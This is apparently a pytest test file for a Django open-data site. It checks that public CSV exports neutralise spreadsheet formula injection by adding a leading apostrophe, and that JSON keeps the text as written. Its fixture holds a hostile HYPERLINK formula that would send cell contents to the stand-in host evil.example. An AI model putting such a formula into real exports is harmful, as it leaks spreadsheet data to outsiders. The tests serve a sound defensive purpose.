"""Public CSVs cannot run as spreadsheet formulas; JSON keeps the text as written."""

import csv
import datetime
import io
import json

import pytest

from measures.models import CommitmentMeasure
from tests.factories import (
    CommitmentFactory,
    MeasureFactory,
    OrganisationalUnitFactory,
    StatusEntryFactory,
)

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/?d="&A1,"Details")'
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def hostile_catalogue():
    unit = OrganisationalUnitFactory(name_de="+Fachbereich 56")
    measure = MeasureFactory(
        title_de=EVIL,
        partners_de="@Partner",
        district="-Brand",
        responsible_unit=unit,
    )
    StatusEntryFactory(
        measure=measure,
        reported_on=datetime.date(2024, 2, 1),
        public_notes={"de": "\tNotiz mit Tabulator"},
    )
    commitment = CommitmentFactory(title_de="\rWir stehen für", passage_de=EVIL)
    CommitmentMeasure.objects.create(commitment=commitment, measure=measure)
    return measure


def csv_rows(client, url):
    response = client.get(url)
    assert response.status_code == 200
    return list(csv.DictReader(io.StringIO(response.content.decode("utf-8")[1:])))


@pytest.mark.parametrize(
    "url, column, written",
    [
        ("/daten/massnahmen.csv", "title_de", EVIL),
        ("/daten/massnahmen.csv", "partners_de", "@Partner"),
        ("/daten/massnahmen.csv", "district", "-Brand"),
        ("/daten/massnahmen.csv", "responsible_unit_name_de", "+Fachbereich 56"),
        ("/daten/sachstaende.csv", "public_note_de", "\tNotiz mit Tabulator"),
        ("/daten/selbstverpflichtungen.csv", "title_de", "\rWir stehen für"),
        ("/daten/selbstverpflichtungen.csv", "passage_de", EVIL),
    ],
)
def test_public_csv_prefixes_formula_text_with_an_apostrophe(
    client, hostile_catalogue, url, column, written
):
    rows = [row for row in csv_rows(client, url) if row[column]]
    assert [row[column] for row in rows] == ["'" + written]


def test_no_public_csv_cell_starts_a_formula(client, hostile_catalogue):
    for url in [
        "/daten/massnahmen.csv",
        "/daten/sachstaende.csv",
        "/daten/handlungsfelder.csv",
        "/daten/selbstverpflichtungen.csv",
    ]:
        for row in csv_rows(client, url):
            for name, cell in row.items():
                assert not cell.startswith(TRIGGERS), (url, name, cell)


def test_json_keeps_the_text_as_written(client, hostile_catalogue):
    items = json.loads(client.get("/daten/massnahmen.json").content)["items"]
    assert [item["title_de"] for item in items] == [EVIL]
    assert items[0]["district"] == "-Brand"


def test_open_data_page_explains_the_leading_apostrophe(client):
    text = client.get("/de/offene-daten/").content.decode()
    assert "Apostroph" in text
    assert "Formel" in text


def test_admin_export_and_public_csv_share_one_rule():
    from measures.spreadsheet import resource
    from opendata import datasets
    from translations import text

    assert resource.neutralise is text.neutralise
    assert datasets.neutralise is text.neutralise
